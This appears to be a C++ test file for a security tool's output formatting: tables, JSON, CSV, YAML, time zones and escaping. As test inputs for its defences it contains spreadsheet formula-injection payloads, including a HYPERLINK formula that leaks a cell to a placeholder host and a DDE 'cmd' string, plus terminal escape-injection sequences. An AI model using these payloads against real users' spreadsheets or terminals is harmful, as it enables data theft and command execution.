#include "netsec/core/error.hpp"
#include "netsec/io/document.hpp"
#include "netsec/io/html.hpp"
#include "netsec/io/output.hpp"
#include "netsec/io/records.hpp"
#include "testutil.hpp"

#include <cerrno>
#include <doctest/doctest.h>
#include <fcntl.h>
#include <sstream>
#include <unistd.h>
#include <yaml-cpp/yaml.h>

using namespace netsec;
using namespace netsec::io;

namespace {

Records sample() {
    Records r;
    r.columns = {
        {"seq", Kind::integer}, {"name"}, {"time", Kind::time}, {"details", Kind::json}, {"hash", Kind::text, false}};
    r.rows.push_back(
        {{"seq", 1}, {"name", "张三"}, {"time", "2026-11-25T06:00:07Z"}, {"details", {{"a", 1}}}, {"hash", "h1"}});
    r.rows.push_back(
        {{"seq", 12}, {"name", "li, \"si\""}, {"time", "2026-01-01T00:00:00Z"}, {"details", nullptr}, {"hash", "h2"}});
    return r;
}

std::string render(Format f, const Records& r, TableStyle style = {"Asia/Shanghai", false}) {
    std::ostringstream out;
    write_records(out, f, r, style);
    return out.str();
}

} // namespace

TEST_CASE("a table lines up Chinese names by display width and shows local time") {
    CHECK(render(Format::table, sample()) == "seq  name      time              details\n"
                                             "  1  张三      2026-11-25 14:00  {\"a\":1}\n"
                                             " 12  li, \"si\"  2026-01-01 08:00\n");
}

TEST_CASE("a table with no rows prints nothing") {
    Records r = sample();
    r.rows.clear();
    CHECK(render(Format::table, r).empty());
}

TEST_CASE("jsonl keeps every column, in order, with UTC times and nested JSON") {
    CHECK(render(Format::jsonl, sample()) ==
          "{\"seq\":1,\"name\":\"张三\",\"time\":\"2026-11-25T06:00:07Z\",\"details\":{\"a\":1},\"hash\":\"h1\"}\n"
          "{\"seq\":12,\"name\":\"li, "
          "\\\"si\\\"\",\"time\":\"2026-01-01T00:00:00Z\",\"details\":null,\"hash\":\"h2\"}\n");
}

TEST_CASE("json is one array") {
    auto parsed = nlohmann::json::parse(render(Format::json, sample()));
    CHECK(parsed.is_array());
    CHECK(parsed.size() == 2);
    CHECK(parsed[0]["name"] == "张三");
}

TEST_CASE("csv quotes as RFC 4180 and tsv escapes tabs and newlines") {
    CHECK(render(Format::csv, sample()) == "seq,name,time,details,hash\n"
                                           "1,张三,2026-11-25T06:00:07Z,\"{\"\"a\"\":1}\",h1\n"
                                           "12,\"li, \"\"si\"\"\",2026-01-01T00:00:00Z,,h2\n");
    Records r;
    r.columns = {{"v"}};
    r.rows.push_back({{"v", "a\tb\nc\\d"}});
    CHECK(render(Format::tsv, r) == "v\na\\tb\\nc\\\\d\n");
}

TEST_CASE("a bold header only when colour is wanted") {
    CHECK(render(Format::table, sample(), {"UTC", true}).rfind("\033[1mseq", 0) == 0);
}

TEST_CASE("auto is a table on a terminal and jsonl in a pipe") {
    CHECK(resolve_format(Format::automatic, true) == Format::table);
    CHECK(resolve_format(Format::automatic, false) == Format::jsonl);
    CHECK(resolve_format(Format::csv, true) == Format::csv);
    CHECK_THROWS_WITH_AS(parse_format("xml"), "unknown format 'xml': expected table, tsv, csv, json or jsonl", Error);
}

TEST_CASE("a document renders as YAML that reads back, and flattens for csv") {
    nlohmann::ordered_json doc = {{"school", {{"name", "测试小学"}, {"code", ""}}}, {"list", {1, "two"}}};
    YAML::Node back = YAML::Load(render_document(doc, Format::table));
    CHECK(back["school"]["name"].as<std::string>() == "测试小学");
    CHECK(back["school"]["code"].as<std::string>() == "");
    CHECK(back["list"][1].as<std::string>() == "two");
    CHECK(render_document(doc, Format::csv) ==
          "key,value\nschool.name,测试小学\nschool.code,\nlist[0],1\nlist[1],two\n");
}

TEST_CASE("a document for people shows its _at times local in the zone; the machine formats keep UTC") {
    nlohmann::ordered_json doc = {
        {"incident_id", "INC-2026-0001"},
        {"discovered_at", "2026-03-01T09:00:00Z"},
        {"closed_at", nullptr},
        {"expires_at", "2026-03-01"},
        {"reports", {{{"reported_at", "2026-03-01T16:05:00Z"}, {"reference", "2026-03-01T16:05:00Z"}}}}};
    auto local = with_local_times(doc, "Asia/Shanghai");
    CHECK(local["discovered_at"] == "2026-03-01 17:00");
    CHECK(local["closed_at"].is_null());
    CHECK(local["expires_at"] == "2026-03-01"); // a date, not an RFC 3339 time: as it is
    CHECK(local["reports"][0]["reported_at"] == "2026-03-02 00:05");
    CHECK(local["reports"][0]["reference"] == "2026-03-01T16:05:00Z"); // not an _at key
    std::string yaml = render_document(doc, Format::table, "Asia/Shanghai");
    CHECK(yaml.find("discovered_at: 2026-03-01 17:00\n") != std::string::npos);
    CHECK(yaml.find("T09:00:00Z") == std::string::npos);
    CHECK(render_document(doc, Format::jsonl, "Asia/Shanghai").find("\"discovered_at\":\"2026-03-01T09:00:00Z\"") !=
          std::string::npos);
    CHECK(render_document(doc, Format::csv, "Asia/Shanghai").find("discovered_at,2026-03-01T09:00:00Z\n") !=
          std::string::npos);
}

TEST_CASE("html_escape makes text safe for element content and quoted attributes") {
    CHECK(netsec::io::html_escape("<a href=\"x\">Tom & Jerry's</a>") ==
          "&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&#39;s&lt;/a&gt;");
    CHECK(netsec::io::html_escape("机房病毒") == "机房病毒");
}

TEST_CASE("terminal_safe shows C0, DEL, C1 and bytes that are not UTF-8 as escapes and keeps the rest") {
    CHECK(terminal_safe("x\033[2J\033]0;owned\007") == "x\\x1b[2J\\x1b]0;owned\\x07");
    CHECK(terminal_safe("a\tb\nc\rd") == "a\\tb\\nc\\rd");
    CHECK(terminal_safe(std::string("nul\0end", 7)) == "nul\\x00end");
    CHECK(terminal_safe("del\x7f") == "del\\x7f");
    CHECK(terminal_safe("csi\xc2\x9b"
                        "2J") == "csi\\u009b2J");             // U+009B, the one-character CSI
    CHECK(terminal_safe("bad\x9b\xff") == "bad\\x9b\\xff");   // not UTF-8: each byte shown
    CHECK(terminal_safe("张三 é ok \\n") == "张三 é ok \\n"); // text, and a backslash, unchanged
}

TEST_CASE("a table escapes control characters in every cell and keeps its columns lined up; jsonl and tsv do not") {
    Records r;
    r.columns = {{"name"}, {"n", Kind::integer}};
    r.rows.push_back({{"name", "x\033[2J\033[H"}, {"n", 1}});
    r.rows.push_back({{"name", "张三"}, {"n", 22}});
    std::string out = render(Format::table, r);
    CHECK(out.find('\033') == std::string::npos);
    CHECK(out == "name            n\n"
                 "x\\x1b[2J\\x1b[H   1\n"
                 "张三            22\n");
    // Machine formats keep the data as it is.
    CHECK(nlohmann::json::parse(render(Format::jsonl, r).substr(0, render(Format::jsonl, r).find('\n')))["name"] ==
          "x\033[2J\033[H");
    CHECK(render(Format::tsv, r) == "name\tn\nx\033[2J\033[H\t1\n张三\t22\n");
    CHECK(render(Format::csv, r) == "name,n\nx\033[2J\033[H,1\n张三,22\n");
}

TEST_CASE("csv defuses cells a spreadsheet would take for formulas; plain numbers stay numbers") {
    CHECK(csv_quote("=HYPERLINK(\"http://x/?\"&A1)") == "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"");
    CHECK(csv_quote("+cmd") == "\"'+cmd\"");
    CHECK(csv_quote("-2+3+cmd|' /C calc'!A0") == "\"'-2+3+cmd|' /C calc'!A0\"");
    CHECK(csv_quote("@SUM(A1)") == "\"'@SUM(A1)\"");
    CHECK(csv_quote("\tx") == "\"'\tx\"");
    CHECK(csv_quote("\rx") == "\"'\rx\"");
    CHECK(csv_quote("-5") == "-5");
    CHECK(csv_quote("+1.5") == "+1.5");
    CHECK(csv_quote("-") == "\"'-\"");
    CHECK(csv_quote("2026-09-01T08:00:00Z") == "2026-09-01T08:00:00Z");
    CHECK(csv_quote("O'Brien") == "O'Brien");
    CHECK(csv_quote("'s-Hertogenbosch") == "'s-Hertogenbosch"); // a quote before a letter is kept as it is
    CHECK(csv_quote("'=x") == "\"''=x\"");                      // marked too, so the mark comes off exactly
}

TEST_CASE("reading csv takes off exactly the mark that writing put on") {
    const std::vector<std::string> values = {"=HYPERLINK(\"http://x/?\"&A1)",
                                             "-5",
                                             "-x",
                                             "+1",
                                             "@a",
                                             "'=x",
                                             "''",
                                             "'",
                                             "'s",
                                             "O'Brien",
                                             "\tx",
                                             "a=b",
                                             "",
                                             "张三"};
    Records r;
    r.columns = {{"name"}, {"n"}};
    for (const auto& v : values) r.rows.push_back({{"name", v}, {"n", "-"}});
    auto back = read_records(render(Format::csv, r), "r.csv", {});
    REQUIRE(back.size() == values.size());
    for (std::size_t i = 0; i < values.size(); ++i) {
        CHECK(back[i].fields["name"] == values[i]);
        CHECK(back[i].fields["n"] == "-");
    }
    CHECK(csv_unprotect("'=a") == "=a");
    CHECK(csv_unprotect("'a") == "'a");
}

TEST_CASE("FdBuf keeps why a write failed, and drops what follows") {
    int fd = ::open("/dev/full", O_WRONLY | O_CLOEXEC);
    REQUIRE(fd >= 0);
    {
        FdBuf buf(fd);
        std::ostream out(&buf);
        out << "data" << std::flush;
        CHECK(!out.good());
        CHECK(buf.error() == ENOSPC);
        out.clear();
        out << std::string(100000, 'x') << std::flush;
        CHECK(buf.error() == ENOSPC);
    }
    ::close(fd);
    netsec::test::TempDir tmp;
    int ok = ::open(tmp.file("f").c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    {
        FdBuf buf(ok);
        std::ostream out(&buf);
        out << std::string(70000, 'y') << "end\n" << std::flush;
        CHECK(out.good());
        CHECK(buf.error() == 0);
    }
    ::close(ok);
    CHECK(std::filesystem::file_size(tmp.file("f")) == 70004);
}

TEST_CASE("a document for people escapes control characters in keys and values and still reads back") {
    nlohmann::ordered_json doc = {{"title", "x\033[2J\x7f\xc2\x9b\ty"}, {"k\033]0;t\007", "v"}, {"plain", "张三"}};
    std::string yaml = render_document(doc, Format::table);
    for (char ch : yaml) CHECK((ch == '\n' || (static_cast<unsigned char>(ch) >= 0x20 && ch != 0x7f)));
    CHECK(yaml.find("\xc2\x9b") == std::string::npos);
    YAML::Node back = YAML::Load(yaml);
    CHECK(back["title"].as<std::string>() == "x\033[2J\x7f\xc2\x9b\ty");
    CHECK(back["k\033]0;t\007"].as<std::string>() == "v");
    CHECK(back["plain"].as<std::string>() == "张三");
}
